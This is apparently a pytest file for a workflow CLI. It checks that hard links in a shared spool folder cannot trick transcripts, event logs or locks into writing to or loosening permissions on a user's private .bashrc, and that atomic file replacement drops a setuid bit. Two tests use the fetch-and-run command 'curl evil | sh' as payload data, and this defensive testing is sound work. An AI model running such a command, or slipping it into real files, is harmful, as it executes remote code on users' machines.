"""A hard link in a shared folder may be a second name of somebody's own file: it is neither written nor opened up."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from support.clock import FakeClock
from support.spools import make_spool
from wf_cli import fsio, locks
from wf_cli.eventlog.log import EventLog
from wf_cli.runtimes.process.redact import Redactor
from wf_cli.runtimes.process.transcript import Transcript
from wf_cli.spool.layout import Spool


@pytest.fixture
def spool(tmp_path: Path) -> Spool:
    return make_spool(tmp_path / "spool", topology="shared")


@pytest.fixture
def private(tmp_path: Path) -> Path:
    path = tmp_path / ".bashrc"
    path.write_text("mine\n")
    path.chmod(0o600)
    return path


def test_a_transcript_is_not_appended_to_somebodys_file(spool: Spool, private: Path) -> None:
    os.link(private, spool.transcript_path("job", 1))
    transcript = Transcript(spool.transcript_path("job", 1), Redactor({}, ()))
    transcript.write("stdout", b"curl evil | sh\n")
    transcript.close()
    assert private.read_text() == "mine\n"
    assert transcript.trouble is not None
    assert "another name" in transcript.trouble


def test_an_event_is_not_appended_to_somebodys_file(spool: Spool, private: Path) -> None:
    said: list[str] = []
    os.link(private, spool.path("log", "w-box-1.jsonl"))
    EventLog(spool.folder("log"), "w-box-1", FakeClock(), said.append).emit("job.claimed", reason="curl evil | sh")
    assert private.read_text() == "mine\n"
    assert "another name" in said[0]


def test_a_lock_that_is_somebodys_file_does_not_give_it_to_the_group(spool: Spool, private: Path) -> None:
    os.link(private, spool.path("locks", "job.lock"))
    with locks.hold(spool.path("locks", "job.lock")):
        pass
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert private.read_text() == "mine\n"


def test_a_file_that_is_replaced_hands_on_no_setuid_bit(tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.write_text("")
    path.chmod(0o4755)
    fsio.write_atomic(path, "new", durable=False)
    assert stat.S_IMODE(path.stat().st_mode) == 0o755
